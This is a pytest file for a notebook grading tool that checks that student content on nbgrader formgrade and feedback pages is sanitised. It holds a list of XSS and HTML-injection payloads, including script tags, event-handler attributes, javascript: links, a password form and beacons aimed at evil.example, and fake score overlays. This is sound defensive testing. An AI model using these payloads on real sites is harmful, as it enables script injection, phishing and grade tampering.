"""What students wrote is shown on formgrader's and feedback's pages, and does nothing there."""

import functools
import re
import warnings
from collections import defaultdict
from html.parser import HTMLParser
from pathlib import Path

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.server_extensions.formgrader import handlers
from small_course import LESSON

from grader.classroom.course import Course
from grader.classroom.harmless import ALL, PIECE, clean
from grader.exercises import exercises
from grader.judge import judge

TEMPLATES = ("feedback", "formgrade")
LOADING = ("srcset", "poster", "background", "action", "formaction", "data", "xlink:href")


class Elements(HTMLParser):
    """The elements of a page: (tag, attributes)."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


@functools.cache
def exporter(template):
    """As nbgrader makes this kind of page, with the course's own settings."""
    settings = {
        "template_name": template,
        "extra_template_basedirs": [handlers.template_path],
        "extra_template_paths": [f"{handlers.static_path}/node_modules/bootstrap/dist/css"],
    }
    return HTMLExporter(config=Course(Path(__file__).parents[2]).config({"HTMLExporter": settings}))


def page(template, *cells):
    resources = defaultdict(str, nbgrader=defaultdict(int), metadata={"name": "x"}, index=0, total=1)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # about a result of which nothing is left
        return exporter(template).from_notebook_node(new_notebook(cells=list(cells)), resources)[0]


def shown(kind, text):
    """A cell in which a student shows this."""
    if kind == "markdown cell":
        return new_markdown_cell(text)
    if kind == "raw cell":
        return new_raw_cell(text, metadata={"format": "text/html"})
    return new_code_cell(outputs=[new_output("display_data", {kind: text})])


EVIL = (
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT >",
    "<script>alert(1)",
    "<scr<script></script>ipt>alert(1)</script>",
    "# <script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>here</a>",
    "<a href=' java\nscript:alert(1)'>here</a>",
    "<a href='&#106;avascript:alert(1)'>here</a>",
    "[here](javascript:alert(1))",
    "[here](&#106;avascript:alert(1))",
    "[here][x]\n\n[x]: JavaScript:alert(1)",
    "<javascript:alert(1)>",
    "[here](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "[here](page.html)",
    "<a href='http:page.svg'>here</a>",
    "<a href='page%2Ehtml?x.txt'>here</a>",
    "<a href='data:text/html,page.txt'>here</a>",
    "<iframe src='//evil.example'></iframe>",
    "<form action='//evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<object data=x></object><embed src=x>",
    "<img src='https://evil.example/seen.png'>",
    "![x](//evil.example/seen.png)",
    "<img src='\\\\evil.example/seen.png'>",
    "<div style='background:url(//evil.example/seen)'>x</div>",
    "<div style='cursor:url(//evil.example/seen),auto'>x</div>",
    "<p style='list-style:\\75rl(//evil.example/seen)'>x</p>",
    "<p style='font:12px image-set(\"//evil.example/seen\" 1x)'>x</p>",
    "<div style='position:fixed;top:0;left:0'>You have 11 of 11 points</div>",
    "<div style='margin-top:-900px;background-color:white'>You have 11 of 11 points</div>",
    "<span class='btn full-credit'>click</span><input class=score id=check_mask_tokens value=9>",
    "<h2 id='check_mask_tokens'>x</h2>",
)


@pytest.mark.parametrize("kind", ["markdown cell", "raw cell", "text/html", "text/markdown"])
@pytest.mark.parametrize("template", TEMPLATES)
def test_nothing_that_is_shown_can_do_anything(template, kind):
    own = Elements(page(template)).found
    found = Elements(page(template, *(shown(kind, evil) for evil in EVIL))).found
    added = [element for element in found if element not in own]
    assert {tag for tag, _ in added} <= {
        "a",
        "details",
        "div",
        "h1",
        "h2",
        "img",
        "p",
        "pre",
        "span",
        "table",
    }
    for tag, attributes in added:
        assert not [name for name in attributes if name.startswith("on") or name in LOADING]
        assert not re.search("script|data:|page", attributes.get("href", ""), re.IGNORECASE), (
            tag,
            attributes,
        )
        assert not re.search("evil|position", f"{attributes.get('src')} {attributes.get('style')}"), (
            tag,
            attributes,
        )
        assert not re.search(r"[:\s]-", attributes.get("style", "")), attributes
        assert not {"full-credit", "score"} & set(attributes.get("class", "").split())
        assert attributes.get("id") != "check_mask_tokens"


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize("mime", ["application/javascript", "image/svg+xml", "application/vnd.custom+json"])
def test_what_could_run_is_left_out(template, mime):
    cell = new_code_cell(outputs=[new_output("display_data", {mime: "alert(1)", "text/plain": "words"})])
    text = page(template, cell)
    assert "alert(1)" not in text and "words" in text


@pytest.mark.parametrize("template", TEMPLATES)
def test_a_picture_is_a_picture_whatever_it_holds(template):
    text = page(
        template, shown("image/png", "x' onerror='alert(1)"), shown("image/jpeg", 'x" onerror="alert(1)')
    )
    pictures = [attributes for tag, attributes in Elements(text).found if tag == "img"]
    assert len(pictures) >= 2 and not [one for one in pictures if "onerror" in one]


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("if a < b & c", "<p>if a &lt; b &amp; c</p>"),
        ("$x<y$ and `a < b`", "<code>a &lt; b</code>"),
        ("`<script>` and **bold**", "<p><code>&lt;script&gt;</code> and <strong>bold</strong></p>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
        ("```python\nx &= 1\n```", '<span class="o">&amp;=</span>'),
        (
            "[lesson 3](../03_masked_lm/03_masked_lm.ipynb)",
            '<a href="../03_masked_lm/03_masked_lm.ipynb">lesson 3</a>',
        ),
        ("[docs](https://example.org/a?b=1&c=2)", '<a href="https://example.org/a?b=1&amp;c=2">docs</a>'),
        ("<em>so</em>", "<em>so</em>"),
        ("# Exercise", "<h1>Exercise</h1>"),
    ],
)
def test_a_lessons_own_words_look_as_ever(template, text, html):
    assert html in page(template, new_markdown_cell(text))
    assert html in page(template, shown("text/markdown", text))


@pytest.mark.parametrize("template", TEMPLATES)
def test_attached_and_embedded_pictures_are_shown(template):
    attached = new_markdown_cell("![x](attachment:dot.png)", attachments={"dot.png": {"image/png": "QUJD"}})
    embedded = shown("text/html", "<img src='data:image/png;base64,QUJE' alt='dots'>")
    text = page(template, attached, embedded)
    assert "data:image/png;base64,QUJD" in text and "data:image/png;base64,QUJE" in text


def test_a_verdict_looks_as_before():
    exercise = exercises(LESSON)["mlm_loss"]
    html = judge(exercise, exercise.mistakes[0].function)._repr_html_()

    def compact(text):
        return text.replace(" ", "").replace(";", "").replace('"', "'").replace("&#x27", "'")

    assert compact(clean(html)) == compact(html)


LONG = {
    "code": lambda: new_code_cell("a" + ".a" * 2_000_000),
    "text": lambda: new_markdown_cell("\\begin{a}" * 500_000),
    "raw": lambda: new_raw_cell("<div>" * 500_000),
    "html": lambda: shown("text/html", "<div>" * 500_000),
    "attributes": lambda: shown("text/html", f"<p {' '.join(f'a{i}=1' for i in range(300_000))}>"),
    "markdown": lambda: shown("text/markdown", "\\begin{a}" * 500_000),
    "stream": lambda: new_code_cell(outputs=[new_output("stream", text="\x1b[1ma" * 2_000_000)]),
    "error": lambda: new_code_cell(
        outputs=[new_output("error", ename="E", evalue="", traceback=["\x1b[1ma" * 2_000_000])]
    ),
}


@pytest.mark.parametrize("kind", LONG)
def test_what_would_take_long_is_shortened_and_told(kind):
    """In minutes or hours, where all of it were made into a page."""
    text = page("feedback", LONG[kind](), new_markdown_cell("what stands after it"))
    assert text.count("more characters are not shown here") == 1 and "what stands after it" in text


def test_a_verdict_is_seen_however_much_stands_before_it():
    talk = [shown("text/plain", "x" * PIECE) for _ in range(ALL // PIECE + 3)]
    marks = {
        "grade": True,
        "solution": False,
        "grade_id": "check_x",
        "points": 1,
        "score": 0.5,
        "locked": True,
    }
    graded = shown("text/html", "<p>one of two points</p>")
    graded.metadata["nbgrader"] = marks
    text = page("feedback", *talk, graded)
    assert "one of two points" in text and text.count("x" * PIECE) == ALL // PIECE
